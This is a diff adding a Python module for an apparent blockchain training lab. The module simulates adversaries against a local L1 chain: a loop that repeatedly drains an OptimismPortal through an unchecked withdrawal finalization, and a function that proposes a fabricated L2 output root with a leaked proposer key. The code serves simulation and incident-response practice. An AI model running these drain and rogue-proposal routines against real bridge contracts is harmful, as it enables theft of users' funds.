@@ -1,0 +1,87 @@
+"""The lab's adversaries on L1: the portal drain (exploit) and a conflicting output root (conflicting-output).
+
+They sign real transactions with test-only keys; web3 calls run in a worker thread so the lab's loop keeps
+serving while a transaction is mined.
+"""
+
+from __future__ import annotations
+
+import asyncio
+from typing import TYPE_CHECKING, Any
+
+from web3 import Web3
+from web3.exceptions import ContractLogicError
+
+from jeju_play.errors import LabError
+from jeju_play.lab.chains import accounts
+from jeju_play.lab.chains.artifacts import lab_artifact
+from jeju_play.lab.chains.transactions import TxBatch
+from jeju_play.lab.sim.logfmt import format_line
+
+if TYPE_CHECKING:
+    from jeju_play.lab.world import LabWorld
+
+DRAIN_EVERY_SECONDS = 2.0
+DRAIN_WEI = 25 * 10**18
+
+
+def _contract(w3: Web3, name: str, address: str) -> Any:
+    return w3.eth.contract(address=Web3.to_checksum_address(address), abi=lab_artifact(name).abi)
+
+
+def _send(w3: Web3, sender: accounts.LabAccount, call: Any, gas: int = 400_000) -> Any:
+    batch = TxBatch.start(w3, sender.signer())
+    batch.send("lab attacker", call.address, call._encode_transaction_data(), gas=gas)
+    return batch.wait()[0]
+
+
+def drain_once(world: LabWorld, nonce: int) -> int:
+    """One withdrawal the portal does not check; returns the wei taken (0 when the portal refuses)."""
+    w3 = Web3(Web3.HTTPProvider(world.l1_url))
+    portal = _contract(w3, "OptimismPortal", world.deployment.optimism_portal)
+    amount = min(DRAIN_WEI, w3.eth.get_balance(Web3.to_checksum_address(world.deployment.optimism_portal)))
+    if amount == 0:
+        return 0
+    attacker = accounts.ATTACKER.address
+    call = portal.functions.finalizeWithdrawalTransaction((nonce, attacker, attacker, amount, 100_000, b""))
+    try:
+        call.call({"from": attacker})
+    except ContractLogicError:
+        return 0
+    _send(w3, accounts.ATTACKER, call)
+    return int(amount)
+
+
+async def drain_forever(world: LabWorld) -> None:
+    nonce = 1_000_000
+    while True:
+        nonce += 1
+        world.faults.drain_attempts += 1
+        try:
+            taken = await asyncio.to_thread(drain_once, world, nonce)
+        except (LabError, OSError, ValueError) as exc:
+            taken = 0
+            world.route_log("op-node", format_line("warn", "Lab attacker transaction failed", {"err": str(exc)}))
+        world.faults.drained_wei += taken
+        await asyncio.sleep(DRAIN_EVERY_SECONDS)
+
+
+def propose_conflicting_output(world: LabWorld) -> int:
+    """Propose a made-up root at nextBlockNumber() with the proposer key (a leaked key, as the runbook fears)."""
+    w3 = Web3(Web3.HTTPProvider(world.l1_url))
+    oracle = _contract(w3, "L2OutputOracle", world.deployment.l2_output_oracle)
+    next_block = oracle.functions.nextBlockNumber().call()
+    due = oracle.functions.computeL2Timestamp(next_block).call()
+    if due >= w3.eth.get_block("latest")["timestamp"]:
+        raise LabError(f"conflicting-output: L2 block {next_block} is not due yet on the oracle (due at {due}); "
+                       "retry in a few seconds.")
+    root = Web3.keccak(text=f"jeju-lab conflicting output {next_block}")
+    call = oracle.functions.proposeL2Output(root, next_block, b"\x00" * 32, 0)
+    _send(w3, accounts.PROPOSER, call)
+    return int(oracle.functions.latestOutputIndex().call())
+
+
+def delete_outputs_from(world: LabWorld, index: int) -> None:
+    w3 = Web3(Web3.HTTPProvider(world.l1_url))
+    oracle = _contract(w3, "L2OutputOracle", world.deployment.l2_output_oracle)
+    _send(w3, accounts.CHALLENGER, oracle.functions.deleteL2Outputs(index))
